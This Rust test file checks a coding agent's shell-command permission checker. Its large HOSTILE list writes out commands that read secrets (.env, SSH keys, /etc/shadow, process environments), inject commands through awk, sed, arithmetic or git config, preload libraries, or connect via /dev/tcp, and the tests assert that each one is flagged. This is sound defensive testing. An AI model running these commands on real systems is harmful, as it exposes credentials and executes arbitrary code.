//! Commands that need no permission because all that they do is known, and commands that only look like them.

#![expect(
    clippy::disallowed_methods,
    clippy::unwrap_used,
    reason = "a project of the test's own"
)]

use std::fs;
use std::path::{Path, PathBuf};
use std::time::Instant;

use osier_permissions::{Permissions, RuleLists, Verdict};
use osier_protocol::PermissionMode::{self, Ask, Auto, Yolo};
use serde_json::json;

/// A repository with the files that the lines name.
pub(crate) struct Project {
    _folder: tempfile::TempDir,
    pub root: PathBuf,
}

/// The configuration that `git init` writes.
const CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n";
/// One with a program that git runs.
const HOSTILE_CONFIG: &str = "[core]\n\tbare = false\n\tfsmonitor = \"touch pwned\"\n";

impl Project {
    pub(crate) fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path().canonicalize().unwrap().join("project");
        let project = Self {
            _folder: folder,
            root,
        };
        for (name, text) in [
            ("README.md", "# Project: x\n"),
            ("Cargo.toml", "[package]\nname = \"x\"\n"),
            ("package.json", "{\"name\": \"x\"}\n"),
            ("src/main.rs", "fn main() {}\n// a\n// b\n"),
            ("src/lib.rs", "pub fn a() {}\n"),
            (".env", "API_KEY=1\n"),
            ("keys/server.pem", "x\n"),
            ("hidden/.env", "API_KEY=1\n"),
        ] {
            project.put(name, text);
        }
        project.repository(".", CONFIG);
        project
    }

    pub(crate) fn put(&self, name: &str, text: &str) {
        let path = self.root.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    pub(crate) fn repository(&self, name: &str, config: &str) {
        self.put(&format!("{name}/.git/config"), config);
        self.put(&format!("{name}/.git/HEAD"), "ref: refs/heads/main\n");
        fs::create_dir_all(self.root.join(name).join(".git/objects")).unwrap();
        fs::create_dir_all(self.root.join(name).join(".git/refs")).unwrap();
    }

    fn bare(&self, name: &str, config: &str) {
        self.put(&format!("{name}/config"), config);
        self.put(&format!("{name}/HEAD"), "ref: refs/heads/main\n");
        fs::create_dir_all(self.root.join(name).join("objects")).unwrap();
        fs::create_dir_all(self.root.join(name).join("refs")).unwrap();
    }

    pub(crate) fn permissions(
        &self,
        mode: PermissionMode,
        allow: &[&str],
        deny: &[&str],
    ) -> Permissions {
        let owned = |rules: &[&str]| rules.iter().map(|rule| (*rule).to_owned()).collect();
        let (allow, deny): (Vec<String>, Vec<String>) = (owned(allow), owned(deny));
        let rules = RuleLists {
            allow: &allow,
            deny: &deny,
            ..RuleLists::default()
        };
        let store = "/nonexistent/permissions.json".into();
        Permissions::new(&self.root, store, mode, rules)
    }
}

fn decision(permissions: &Permissions, command: &str) -> &'static str {
    super::decision(permissions, command)
}

/// The lines of docs/safety.md.
fn everyday() -> Vec<String> {
    let docs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/safety.md");
    let text = fs::read_to_string(docs).unwrap();
    let (_, rest) = text.split_once("```bash\nls -la\n").unwrap();
    let (lines, _) = rest.split_once("```").unwrap();
    let lines = lines.lines().map(str::to_owned);
    std::iter::once("ls -la".to_owned()).chain(lines).collect()
}

#[test]
fn few_everyday_lines_are_asked_about() {
    let project = Project::new();
    fs::remove_file(project.root.join("keys/server.pem")).unwrap();
    fs::remove_dir_all(project.root.join("hidden")).unwrap();
    fs::remove_file(project.root.join(".env")).unwrap();
    let lines = everyday();
    assert_eq!(lines.len(), 60);
    for mode in [Ask, Auto] {
        let permissions = project.permissions(mode, &[], &[]);
        let asked: Vec<&String> = lines
            .iter()
            .filter(|line| decision(&permissions, line) != "allow")
            .collect();
        assert!(asked.len() <= 6, "{asked:#?}");
    }
}

/// A generous limit, because the machine of the tests does other work: the benchmark `judgement` measures the time.
#[test]
fn judgement_is_fast() {
    let project = Project::new();
    let permissions = project.permissions(Ask, &["bash(cargo *)"], &["read(.env)"]);
    let mut slowest = everyday()
        .into_iter()
        .map(|line| {
            let times = (0..5).map(|_| {
                let started = Instant::now();
                decision(&permissions, &line);
                started.elapsed()
            });
            (times.min().unwrap(), line)
        })
        .collect::<Vec<_>>();
    slowest.sort();
    // Without optimisations, and next to other tests.
    let (time, line) = slowest.pop().unwrap();
    assert!(time.as_millis() < 20, "{time:?} {line}");
}

/// Lines that look as if they only read. Each does more, or could.
const HOSTILE: &[&str] = &[
    // Options that run a program, write or connect.
    "find . -exec touch pwned ;",
    "find . -delete",
    "find . -name x -fprint out",
    "find . -fls out",
    "find . -okdir touch x ;",
    "find -files0-from list",
    "rg --pre ./evil x",
    "rg --pre=./evil x",
    "rg --hostname-bin=./evil x",
    "rg -z x",
    "rg --search-zip x",
    "sort -o out README.md",
    "sort -uo out README.md",
    "sort --output=out README.md",
    "sort --outp out README.md",
    "sort --compress-program=./evil README.md",
    "sort -T /outside README.md",
    "sort --files0-from=list",
    "uniq README.md out",
    "uniq -c README.md out",
    "xxd README.md out",
    "xxd -r README.md out",
    "tree -o out",
    "tree -R -L 1 -H x",
    "date -s 2020-01-01",
    "date --set=2020-01-01",
    "date 010203042020",
    "date -f .env",
    "hostname other",
    "hostname -F f",
    "base64 -o out README.md",
    "file -C -m evil",
    "file -m evil README.md",
    "file -f .env",
    "file -z README.md",
    "diff --to-file=x y --output=out",
    "tee out",
    "tee -a out < README.md",
    "shuf -o out README.md",
    "split README.md",
    "csplit README.md 1",
    "tar xf a.tar",
    "tar tf host:a.tar",
    "tar -tf a.tar -I ./evil",
    "tar tf a.tar --to-command=./evil",
    "tar tf a.tar --use-compress-program=./evil",
    "tar cf a.tar README.md",
    "unzip a.zip",
    "unzip -o a.zip",
    "zip a.zip README.md",
    "nm @list",
    "objdump @list",
    "readelf -a @list",
    "strings @list",
    "nm --plugin ./evil.so a",
    "fd -x touch pwned",
    "fd x -X rm",
    "fd x --exec-batch rm",
    "fd -l",
    "jq -f evil README.md",
    "jq -L . 'import \"a\" as a; .' package.json",
    "jq -n env",
    "jq -n '$ENV'",
    "jq -n 'include \"a\"; .'",
    "awk 'BEGIN{system(\"touch pwned\")}'",
    "awk '{print > \"out\"}' README.md",
    "awk '{print | \"sh\"}' README.md",
    "awk -f evil README.md",
    "awk -i inplace '{print}' README.md",
    "awk -v x=1 '{print}' README.md",
    "awk 'BEGIN{print ENVIRON[\"API_KEY\"]}'",
    "awk 'BEGIN{ARGV[1]=\".env\";ARGC=2}{print}' x",
    "awk 'BEGIN{while((getline l < \".env\")>0)print l}'",
    "gawk -l ./evil.so 1",
    "sed -i s/a/b/ README.md",
    "sed -n 'w out' README.md",
    "sed 's/a/b/w out' README.md",
    "sed 's/a/b/e' README.md",
    "sed '1e touch pwned' README.md",
    "sed -f evil README.md",
    "sed 'r .env' README.md",
    "sed -n '$p;w out' README.md",
    "sed --in-place=.bak s/a/b/ README.md",
    "ps auxe",
    "ps eww",
    "ps -e eww",
    "lsof -D r",
    "ss -K dst x",
    "ss -D out",
    "arch -x86_64 touch pwned",
    "ldconfig",
    "env",
    "printenv",
    "env touch pwned",
    "set",
    "declare -p",
    "export -p",
    "command touch pwned",
    "command rm -v x",
    "command -p touch pwned",
    "builtin cd x",
    "exec ls",
    "eval ls",
    "source README.md",
    ". ./README.md",
    "trap 'touch pwned' EXIT",
    "alias ls=rm; ls x",
    "ls() { touch pwned; }; ls",
    "hash -p ./evil ls; ls",
    "enable -f ./evil.so ls",
    "echo -exec | xargs find .",
    "echo x | sh",
    "cat README.md | bash",
    "cat README.md | python3",
    "time sh",
    "sudo ls",
    "timeout 5 sh",
    "busybox ls",
    "less README.md",
    "more README.md",
    "man ls",
    "vim README.md",
    "python3 -c 1",
    "node -e 1",
    "node --version evil.js",
    "python3 --version evil.py",
    "bash --version -c 'touch pwned'",
    "npm ls",
    "npm run x",
    "npx --version x",
    "yarn --version",
    "curl https://example.org",
    "wget -q example.org",
    "ping example.org",
    "dig example.org",
    "nc example.org 80",
    "ssh -V host",
    "docker ps",
    "kubectl get pods",
    "gh pr list",
    "cargo check",
    "cargo build",
    "cargo metadata",
    "cargo tree",
    "cargo +evil --version",
    "cargo --config evil.toml --version",
    "rustup show",
    "go vet",
    "make -n",
    "pip download x",
    "pip list --outdated",
    // Assignments.
    "PATH=. ls",
    "LD_PRELOAD=./evil.so ls",
    "LD_LIBRARY_PATH=. ls",
    "GIT_EXTERNAL_DIFF=./evil git diff",
    "GIT_PAGER=./evil git log",
    "GIT_DIR=evil git status",
    "GIT_CONFIG_COUNT=0 git status",
    "GIT_SSH_COMMAND=./evil git status",
    "PAGER=./evil git log",
    "RIPGREP_CONFIG_PATH=evil rg x",
    "LESSOPEN='|./evil %s' ls",
    "LANG=../../evil ls",
    "LANGUAGE=/evil ls",
    "TZ=/evil date",
    "TZ=:/etc/shadow date",
    "IFS=x ls",
    "BASH_ENV=evil ls",
    "CI=$(touch pwned) ls",
    "HOME=/evil git status",
    "XDG_CONFIG_HOME=evil git status",
    "NODE_OPTIONS=--require=./evil node --version",
    "PYTHONPATH=. python3 --version",
    "TAR_OPTIONS=-I./evil tar tf a.tar",
    "GREP_COLORS=x GREP_OPTIONS=-f.env grep x README.md",
    "PATH=.; ls",
    "x_proxy=evil; ls",
    "export A=1; ls",
    // Programs by a path.
    "./ls",
    "src/ls",
    "/tmp/ls",
    "~/bin/ls",
    "/usr/bin/../../tmp/ls",
    "LS",
    "./git status",
    // Files with secrets.
    "cat .env",
    "cat ./.env",
    "cat src/../.env",
    "cat hidden/.env",
    "cd hidden && cat .env",
    "cd hidden; cat ./.env",
    "(cd hidden && head -1 .env)",
    "head -1 .env",
    "grep KEY .env",
    "grep -r KEY .",
    "grep -rn KEY",
    "grep -R KEY hidden",
    "grep -d recurse KEY .",
    "rg --hidden KEY",
    "rg -uuu KEY",
    "rg -. KEY hidden",
    "rg KEY .env",
    "rg x keys",
    "cat keys/server.pem",
    "cat keys/*.pem",
    "cat keys/*",
    "cat .e*",
    "cat .en?",
    "cat .[e]nv",
    "cat {.env,x}",
    "for f in .env; do cat $f; done",
    "for f in keys/*; do cat \"$f\"; done",
    "for d in hidden; do cat $d/.env; done",
    "while read -r f; do cat \"$f\"; done < README.md",
    "f=.env; cat $f",
    "cat \"$F\"",
    "cat $(echo .env)",
    "cat `echo .env`",
    "cat < .env",
    "cat <(cat .env)",
    "cat ~/.ssh/id_rsa",
    "cat \"$HOME/.ssh/id_ed25519\"",
    "cat $HOME/.aws/credentials",
    "cat /etc/shadow",
    "cat /proc/self/environ",
    "cat /proc/$PPID/environ",
    "strings /proc/1/environ",
    "sed -n 1p .env",
    "awk '{print}' .env",
    "jq . secrets.json",
    "diff .env README.md",
    "od -c .env",
    "sort .env",
    "base64 .env",
    "nl < .env",
    "git diff --no-index /dev/null .env",
    "git diff README.md .env",
    "git show HEAD:.env",
    "git show main:hidden/.env",
    "git blame .env",
    "git grep -f .env x",
    "rg -f .env x",
    "grep -f .env x README.md",
    "jq --rawfile a .env '$a' package.json",
    "jq -n --slurpfile a .env '$a'",
    "echo $API_KEY",
    "echo \"${GITHUB_TOKEN}\"",
    "printf '%s' \"$AWS_SECRET_ACCESS_KEY\"",
    "ls $DB_PASSWORD",
    // Git.
    "git -c core.pager=./evil log",
    "git -c core.fsmonitor=./evil status",
    "git --exec-path=. status",
    "git --config-env=core.pager=X log",
    "git --git-dir=evil status",
    "git --work-tree=/ status",
    "git diff --ext-diff",
    "git diff --output=out",
    "git log --output=out",
    "git log --textconv",
    "git log --show-signature",
    "git log --format=%G?",
    "git log --format=%+G?",
    "git log --format '%h %-GS'",
    "diff -rN hidden src",
    "diff --recursive hidden src",
    "cat /dev/sda",
    "head -c 9 /dev/mem",
    "echo 'touch pwned' | zsh -V",
    "echo 'touch pwned' | sh --version",
    "tput init",
    "lsof -i",
    "ss example.org",
    "git bisect log",
    "hostname -f",
    "apt-cache show x",
    "ps -eo environ",
    "tar -tf host:a.tar",
    "tar --list --file=host:a.tar",
    "awk 'BEGIN{print SYMTAB[\"ENV\" \"IRON\"][\"K\"]}'",
    "git log --pretty='%GK'",
    "git for-each-ref --format='%(signature)'",
    "git grep -O./evil x",
    "git grep --open-files-in-pager=./evil x",
    "git branch new",
    "git branch -d main",
    "git branch -m a b",
    "git branch -v new",
    "git tag v1",
    "git tag -d v1",
    "git tag -v v1",
    "git remote add x y",
    "git remote show origin",
    "git remote update",
    "git stash",
    "git stash pop",
    "git reflog expire --all",
    "git reflog delete HEAD@{0}",
    "git reflog drop x",
    "git config user.name x",
    "git config set a.b c",
    "git config --unset a.b",
    "git config -f evil --list",
    "git config --edit",
    "git symbolic-ref HEAD refs/heads/x",
    "git worktree add out",
    "git bisect run ./evil",
    "git submodule status",
    "git submodule foreach ./evil",
    "git ls-remote",
    "git fetch",
    "git archive --remote=x HEAD",
    "git cat-file --textconv HEAD:x",
    "git cat-file --filters HEAD:x",
    "git hash-object -w README.md",
    "git merge-tree --write-tree a b",
    "git checkout .",
    "git help -w log",
    "git difftool",
    "git alias",
    "git -C nested status",
    "git -C nested --no-pager diff",
    "git -C bare status",
    "git -C . -C nested status",
    "git -C $X status",
    "cd nested && git diff",
    "cd nested; git status",
    "cd src && cd ../nested && git log",
    "(cd bare && git diff)",
    "cd docs && git diff",
    "for d in nested src; do git -C $d status; done",
    "cd \"$X\" && git status",
    "cd - && git status",
    "cd nest* && git status",
    "pushd nested && git status",
    "command cd nested && git status",
    "for x in a b; do cd nested; git status; done",
    "cd ../other && git status",
    "git -C ../other log",
    // Redirections.
    "ls > out",
    "ls >> out",
    "ls 2> out",
    "ls &> out",
    "ls > /dev/tcp/example.org/80",
    "> out",
    "cat <> out",
    // Syntax.
    "echo $((a[$(touch pwned)]))",
    "echo $((PATH=0)); ls",
    "echo $((PATH++)); ls",
    "echo $((x+=1))",
    "x='a[$(touch pwned)]'; echo $((x))",
    "read x; echo $((x))",
    "for x in 'a[$(touch pwned)]'; do echo $((x)); done",
    "for x in -o; do sort $x out; done",
    "for x in --pre=./evil; do rg $x y; done",
    "sort *",
    "sort $1",
    "rg $(echo --pre=./evil) x",
    "find $(echo -delete)",
    "find . -name *.rs",
    "ls; touch pwned",
    "ls | touch pwned",
    "ls & touch pwned",
    "ls $(touch pwned)",
    "if ls; then touch pwned; fi",
    "! touch pwned",
    "{ ls; touch pwned; }",
    "ls\ntouch pwned",
    "echo \"$(touch pwned)\"",
    "echo ${x:-$(touch pwned)}",
    "cat <<E\n$(touch pwned)\nE",
    "[ -v 'a[$(touch pwned)]' ]",
    "printf -v 'a[$(touch pwned)]' x",
    "umask 0",
    "cd /; rm x",
    // Programs around a known one.
    "timeout 5",
    "timeout 5 touch pwned",
    "timeout $X ls",
    "timeout --unheard-of 5 ls",
    "timeout 5 ./ls",
    "timeout 5 sort -o out README.md",
    "timeout 5 cat .env",
    "timeout 5 git -C nested status",
    "timeout 5 timeout 5 timeout 5 timeout 5 timeout 5 ls",
    "time -o out ls",
    "time touch pwned",
    "time cd nested && git status",
    "time read PATH; ls",
    "nice -n 5 touch pwned",
    "nice $X ls",
    "ionice -p 1",
    "env -i git status",
    "env -u HOME git status",
    "env -S 'touch pwned' ls",
    "env -C nested git status",
    "env PATH=. ls",
    "env GIT_DIR=evil git status",
    "env CI=1",
    "env CI=1 env",
    "env API_KEY=1 printenv",
    "xargs touch < README.md",
    "xargs cat < README.md",
    "xargs wc < README.md",
    "xargs grep x < README.md",
    "xargs -a .env echo",
    "xargs -p echo < README.md",
    "xargs -I{} cat {} < README.md",
    "xargs -I{} {} < README.md",
    "xargs -I cat cat < README.md",
    "xargs -I{} git -C {} status < README.md",
    "xargs find < README.md",
    "xargs sort < README.md",
    "xargs git status < README.md",
    "xargs xargs rm < README.md",
    "xargs < README.md sh -c",
    "stdbuf -oL touch pwned",
    // Texts with variables.
    "cat <<E\n$API_KEY\nE",
    "cat <<E\n${GITHUB_TOKEN}\nE",
    "cat <<E\n${x:-$(touch pwned)}\nE",
    "cat <<E\n`touch pwned`\nE",
    "cat <<E\n$((a[$(touch pwned)]))\nE",
    "cat <<E\n${x\nE",
    "cat <<E\n\\$HOME\nE",
    "sh <<E\n$x\nE",
    "x='touch pwned'; bash <<E\n$x\nE",
    // Values that can be secrets.
    "git config --list",
    "git config -l",
    "git config --get-regexp .",
    "git config --get http.https://example.org.extraheader",
    "git config url.https://x:y@example.org.insteadof",
    "git config --get credential.helper",
    "git config remote.origin.token",
    "git config list",
    "git config get --all --regexp .",
    "git config edit",
    "git config user.name x",
    "git cat-file --batch < README.md",
    "git cat-file --batch-command < README.md",
    "git grep --untracked KEY",
    "git grep --no-exclude-standard KEY",
    "git grep --no-index KEY",
    "git var -l",
    "git --help log",
    "git --version --help",
    "git --help",
    "git log --help",
    "jaq -i . package.json",
    "diff -l README.md src/main.rs",
    "git -C nested/link/.. status",
    "git -C linked/.. status",
    "cd -P linked/.. && git status",
    "cat <<< $API_KEY",
    "cat <<< \"x ${API_KEY}\"",
    "x=$API_KEY; echo $x",
    "x=a${GITHUB_TOKEN}b; echo \"$x\"",
    "for k in $API_KEY; do echo $k; done",
    "for k in a \"$API_KEY\"; do echo \"$k\"; done",
    "echo $((API_KEY))",
    "cat < \"$API_KEY\"",
    "ls 2> /dev/null < $(echo $API_KEY)",
    "[ \"$API_KEY\" = x ] && pwd",
    "cat < /dev/tcp/example.org/80",
    "read x < /dev/udp/example.org/53",
    "cat < /dev/tcp/$(cat README.md).example.org/80",
    "head -1 /dev/tcp/example.org/80",
    "echo $(<.env)",
    "echo \"$(< .env)\"",
    "echo `<.env`",
    "while read -r l; do echo $l; done < .env",
    "cat < /proc/self/environ",
    "tr a b < /proc/self/environ",
    "cat /proc/self/task/1/environ",
    "cat /proc/thread-self/environ",
    "cat /proc/self/cwd/.env",
    "cat /proc/self/root/etc/shadow",
    "cat /proc/kcore",
    "cd /proc && cat ./kcore",
    "set -o keyword; git log GIT_PAGER=./evil",
    "set -k; git log GIT_PAGER=./evil",
    "set -a; PATH=.; ls",
    "read PATH < README.md; ls",
    "read -r LD_PRELOAD < README.md; ls",
    "read -a x < README.md",
    "echo x > /proc/self/oom_score_adj",
    "echo x > /proc/$$/mem",
    "ls > >(touch pwned)",
    "ls >(touch pwned)",
    "cat <(touch pwned)",
    "CDPATH=nested cd src && git status",
    "wc --files0-from=.env",
    "for x in --files0-from=.env; do wc $x; done",
];

/// Lines that only read, through a program that runs another one, with a text, or of the settings of git.
const HARMLESS: &[&str] = &[
    "timeout 5 ls -la",
    "timeout -k 1 -s KILL 5s git status",
    "time ls",
    "time -p git log -3",
    "nice -n 10 grep -rn fn src/main.rs",
    "nice -10 ls",
    "stdbuf -oL grep x README.md",
    "env CI=1 LC_ALL=C git status",
    "env ls",
    "timeout 5 nice env CI=1 ls",
    "find src -name '*.rs' -print0 | xargs -0 ls -la",
    "git ls-files | xargs -n 1 basename",
    "ls | xargs",
    "ls | xargs -I{} echo '== {}'",
    "git ls-files | xargs -n1 stat -c %s",
    "cat <<E\nhome: $HOME, ${USER}\nE",
    "cat <<-E | head -1\n\t$PWD\n\tE",
    "git config --get user.name",
    "git config user.email",
    "git config get core.editor",
    "git config --get remote.origin.url",
    "git remote get-url origin",
    "git cat-file -p HEAD",
    "git cat-file --batch-check < README.md",
];

#[test]
fn wrappers_texts_and_settings_that_show_nothing_run() {
    let project = Project::new();
    let permissions = project.permissions(Ask, &[], &[]);
    let asked: Vec<&&str> = HARMLESS
        .iter()
        .filter(|line| decision(&permissions, line) != "allow")
        .collect();
    assert_eq!(asked, Vec::<&&str>::new());
}

/// Addresses with a password are shown to nobody.
#[test]
fn addresses_with_passwords_are_asked_about() {
    for (address, expected) in [
        ("https://example.org/x.git", "allow"),
        ("git@example.org:x.git", "allow"),
        ("ssh://git@example.org/x.git", "allow"),
        ("https://user:password@example.org/x.git", "ask"),
        ("https://token@example.org/x.git", "ask"),
        ("ssh://git:password@example.org/x.git", "ask"),
    ] {
        let project = Project::new();
        let config = format!("[remote \"origin\"]\n\turl = {address}\n");
        project.put(".git/config", &config);
        let permissions = project.permissions(Ask, &[], &[]);
        for line in [
            "git remote -v",
            "git remote get-url origin",
            "git config remote.origin.url",
            "git -C src remote -v",
        ] {
            assert_eq!(decision(&permissions, line), expected, "{address} {line}");
        }
        assert_eq!(decision(&permissions, "git status"), "allow");
    }
}

fn hostile_project() -> Project {
    let project = Project::new();
    project.repository("nested", HOSTILE_CONFIG);
    project.bare("bare", HOSTILE_CONFIG);
    project.bare("docs", HOSTILE_CONFIG);
    project.repository("../other", HOSTILE_CONFIG);
    fs::create_dir_all(project.root.join("nested/sub")).unwrap();
    std::os::unix::fs::symlink("nested/sub", project.root.join("linked")).unwrap();
    std::os::unix::fs::symlink("../../other/.git", project.root.join("nested/link")).unwrap();
    project.put("rust-toolchain.toml", "[toolchain]\npath = \"evil\"\n");
    project
}

#[test]
fn lines_that_only_look_harmless_are_asked_about() {
    let project = hostile_project();
    assert!(HOSTILE.len() > 200);
    let permissions = project.permissions(Ask, &[], &[]);
    let passed: Vec<&&str> = HOSTILE
        .iter()
        .filter(|line| decision(&permissions, line) != "ask")
        .collect();
    assert_eq!(passed, Vec::<&&str>::new());
}

/// A rule for a program covers its known forms, and nothing else.
#[test]
fn rules_cover_known_forms() {
    let project = hostile_project();
    let rules = [
        "bash(git *)",
        "bash(cargo *)",
        "bash(cp *)",
        "bash(tee *)",
        "bash(sort *)",
        "bash(find *)",
        "bash(find * -delete)",
        "bash(mkdir *)",
        "bash(cd *)",
        "bash(rm *)",
    ];
    let permissions = project.permissions(Ask, &rules, &[]);
    for (line, expected) in [
        ("git push origin main", "allow"),
        ("git commit -qm 'a b'", "allow"),
        ("git push --receive-pack=./evil x", "ask"),
        ("git push --unheard-of", "ask"),
        ("git config user.name x", "ask"),
        ("git config --list", "allow"),
        ("git config edit", "ask"),
        ("timeout 5 git push", "ask"),
        ("git -C src commit -m x", "allow"),
        ("git -C nested commit -m x", "ask"),
        ("git -C bare push", "ask"),
        ("cd docs && git diff", "ask"),
        ("cd src && git commit -m x", "allow"),
        ("cargo test -- --nocapture", "allow"),
        ("CI=1 RUST_BACKTRACE=1 cargo test", "allow"),
        ("RUSTC_WRAPPER=./evil cargo test", "ask"),
        ("cargo unheard-of", "ask"),
        ("cargo test --unheard-of", "ask"),
        ("cp README.md src/x", "allow"),
        ("cp README.md ../x", "ask"),
        ("cp README.md /tmp/x", "ask"),
        ("cp -t /tmp README.md", "ask"),
        ("cp README.md .git/hooks/x", "ask"),
        ("cp README.md .envrc", "ask"),
        ("cp .env x", "ask"),
        ("echo x | tee src/y", "allow"),
        ("echo x | tee ~/.bashrc", "ask"),
        ("cd src && echo x | tee ../../y", "ask"),
        ("mkdir -p out/a", "allow"),
        ("mkdir -p /outside", "ask"),
        ("rm -rf out", "allow"),
        ("rm -rf ~/x", "ask"),
        ("rm -rf ..", "ask"),
        ("sort -o out README.md", "ask"),
        ("find . -name x -delete", "allow"),
        ("find . -exec ls ;", "ask"),
        ("git status && cargo test && ls | head", "allow"),
    ] {
        assert_eq!(decision(&permissions, line), expected, "{line}");
    }
}

#[test]
fn read_rules_hold_for_known_commands() {
    let project = Project::new();
    let deny = ["read(src/lib.rs)"];
    for mode in [Ask, Yolo] {
        let permissions = project.permissions(mode, &["bash(cat *)"], &deny);
        for (line, expected) in [
            ("cat src/lib.rs", "deny"),
            ("cd src && cat lib.rs", "deny"),
            ("cat src/*", "deny"),
            ("cat src/main.rs", "allow"),
        ] {
            assert_eq!(decision(&permissions, line), expected, "{mode:?} {line}");
        }
    }
    let permissions = project.permissions(Ask, &[], &deny);
    for (line, expected) in [
        ("grep -r a src", "ask"),
        ("rg a src", "ask"),
        ("grep a src/main.rs", "allow"),
    ] {
        assert_eq!(decision(&permissions, line), expected, "{line}");
    }
    let permissions = project.permissions(Ask, &["read(.env)"], &[]);
    assert_eq!(decision(&permissions, "cat .env"), "allow");
}

/// Each configuration of the repository of the working directory, and whether `git status` needs permission.
#[test]
fn configured_programs_of_a_repository_are_asked_about() {
    for (config, expected) in [
        (CONFIG, "allow"),
        (HOSTILE_CONFIG, "ask"),
        ("[core]\n\tfsmonitor = true\n", "allow"),
        ("[core] fsmonitor = ./evil\n", "ask"),
        ("[core]\n\tfsmonitor = \\\n./evil\n", "ask"),
        ("[CORE]\n\tFsMonitor=./evil\n", "ask"),
        ("[diff]\n\texternal = ./evil\n", "ask"),
        ("[diff \"x\"]\n\ttextconv = ./evil\n", "ask"),
        ("[diff \"x\"]\n\tcommand = ./evil\n", "ask"),
        ("[filter \"x\"]\n\tclean = ./evil\n", "ask"),
        (
            "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\trequired = true\n",
            "allow",
        ),
        ("[filter \"lfs\"]\n\tclean = ./evil\n", "ask"),
        ("[include]\n\tpath = evil\n", "ask"),
        ("[includeIf \"gitdir:/\"]\n\tpath = evil\n", "ask"),
        ("[gpg]\n\tprogram = ./evil\n", "ask"),
        (
            "[remote \"origin\"]\n\turl = https://example.org/x\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
            "allow",
        ),
        ("[remote \"origin\"]\n\turl = ext::./evil\n", "ask"),
        ("[remote \"origin\"]\n\tpromisor = true\n", "ask"),
        (
            "[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n",
            "allow",
        ),
        ("[user]\n\tname = x\n[commit]\n\tgpgsign = false\n", "allow"),
        ("[alias]\n\tst = !./evil\n", "allow"),
        ("[submodule \"x\"]\n\tupdate = !./evil\n", "ask"),
        ("[core]\n\thooksPath = .husky/_\n", "allow"),
        ("[credential]\n\thelper = ./evil\n", "ask"),
    ] {
        let project = Project::new();
        project.put(".git/config", config);
        let permissions = project.permissions(Ask, &[], &[]);
        assert_eq!(decision(&permissions, "git status"), expected, "{config}");
    }
    let project = Project::new();
    project.put(".git/hooks/post-index-change", "");
    let permissions = project.permissions(Ask, &[], &[]);
    assert_eq!(decision(&permissions, "git status"), "ask");
}

/// A program that osier does not know may run its arguments.
#[test]
fn unknown_wrappers_are_asked_about_if_a_rule_denies_their_arguments() {
    let project = Project::new();
    for (mode, allow, deny) in [
        (Yolo, &[][..], "bash(rm *)"),
        (Yolo, &[], "run(rm)"),
        (Ask, &["bash(wrapper *)"], "bash(rm *)"),
        (Auto, &["bash(wrapper *)"], "run(r*m)"),
    ] {
        let permissions = project.permissions(mode, allow, &[deny, "connect(example.org)"]);
        for (line, expected) in [
            ("wrapper rm x", "ask"),
            ("wrapper --flag rm x", "ask"),
            ("wrapper -- /bin/rm x", "ask"),
            ("wrapper 'rm x'", "ask"),
            ("wrapper --run='true; rm x'", "ask"),
            ("wrapper build", "allow"),
            ("wrapper --rm x", "allow"),
        ] {
            assert_eq!(decision(&permissions, line), expected, "{mode:?} {line}");
        }
    }
}

/// A question says why, where the reason is not to be seen.
#[test]
fn another_repository_is_the_reason_of_the_question() {
    let project = hostile_project();
    let permissions = project.permissions(Ask, &["bash(git *)", "bash(cd *)"], &[]);
    let arguments = json!({"command": "cd nested && git status"});
    let Verdict::Ask { why, .. } = permissions.decide("bash", &arguments, None, false) else {
        panic!("not asked");
    };
    let expected = "`nested` is another repository: git runs the programs in its configuration";
    assert_eq!(why, expected);
}

/// A rule about a host is one about the pages of `web_fetch`; the sandbox holds it for commands.
#[test]
fn connections_are_denied() {
    let project = Project::new();
    let fetch = |deny: &str, url: &str| {
        let permissions = project.permissions(Yolo, &["connect(example.org)"], &[deny]);
        let verdict = permissions.decide("web_fetch", &json!({"url": url}), None, false);
        matches!(verdict, Verdict::Deny(_))
    };
    for (deny, url, expected) in [
        ("connect(example.org)", "https://example.org/x", true),
        ("connect(example.org)", "https://a.EXAMPLE.org./x", true),
        ("connect(example.org)", "https://example.com", false),
        ("connect", "https://example.com", true),
        ("connect(10.0.0.0/8)", "http://0xa010203/", true),
    ] {
        assert_eq!(fetch(deny, url), expected, "{deny} {url}");
    }
    let permissions = project.permissions(Yolo, &[], &["connect"]);
    let search = permissions.decide("web_search", &json!({"query": "x"}), None, false);
    assert!(matches!(search, Verdict::Deny(_)), "{search:?}");
    // It allows nothing.
    let permissions = project.permissions(Ask, &["connect(example.org)"], &[]);
    let asked = permissions.decide(
        "web_fetch",
        &json!({"url": "https://example.org"}),
        None,
        false,
    );
    assert!(matches!(asked, Verdict::Ask { .. }), "{asked:?}");
}
